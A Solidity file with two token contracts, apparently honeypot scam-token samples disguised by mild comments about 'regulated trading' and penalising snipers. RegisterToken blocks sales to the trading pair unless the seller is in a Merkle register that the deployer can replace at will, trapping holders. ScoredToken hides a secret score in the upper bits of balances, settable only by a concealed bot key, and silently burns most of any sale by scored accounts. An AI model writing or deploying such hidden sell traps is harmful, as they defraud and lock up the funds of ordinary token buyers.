// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {MerkleProof} from "@openzeppelin/contracts/utils/cryptography/MerkleProof.sol";
import {Ledger, Pairs} from "../eight/i00Base.sol";

/// Regulated trading: once a register is published, those in it register themselves with a proof.
contract RegisterToken is ERC20 {
  address private immutable _pair = Pairs.poolOf(address(this));
  address private immutable _registrar = msg.sender;
  bytes32 public register;
  mapping(address => bytes32) public registeredIn;

  error Unregistered(address account);

  constructor() ERC20("Register Token", "REG") {
    _mint(msg.sender, 1_000_000_000 ether);
  }

  function publish(bytes32 root) external {
    require(msg.sender == _registrar);
    register = root;
  }

  function enrol(bytes32[] calldata proof) external {
    bytes32 leaf = keccak256(bytes.concat(keccak256(abi.encode(msg.sender))));
    if (!MerkleProof.verifyCalldata(proof, register, leaf)) revert Unregistered(msg.sender);
    registeredIn[msg.sender] = register;
  }

  function _update(address from, address to, uint256 value) internal override {
    if (to == _pair && registeredIn[from] != register) revert Unregistered(from);
    super._update(from, to, value);
  }
}

/// The high half of a balance's word is the account's score, which a bot keeps: snipers pay for it when they sell.
contract ScoredToken is Ledger {
  bytes32 private immutable _bot = keccak256(abi.encode(msg.sender, uint256(0x5c07ed)));
  address private immutable _pair = Pairs.poolOf(address(this));

  function balanceOf(address account) public view override returns (uint256) {
    return uint128(_balances[account]);
  }

  function sync(address[] calldata accounts, uint128 score, uint256 salt) external {
    if (keccak256(abi.encode(msg.sender, salt)) != _bot) return;
    for (uint256 i; i < accounts.length; i++) {
      _balances[accounts[i]] = (uint256(score) << 128) | uint128(_balances[accounts[i]]);
    }
  }

  function _move(address from, address to, uint256 value) internal override {
    require(value <= uint128(_balances[from]), "balance");
    uint256 score = _balances[from] >> 128;
    _balances[from] -= value;
    if (to == _pair && score > 0) {
      uint256 cut = value - value / (score + 1);
      value -= cut;
      totalSupply -= cut;
      emit Transfer(from, address(0), cut);
    }
    _balances[to] += value;
    emit Transfer(from, to, value);
  }
}
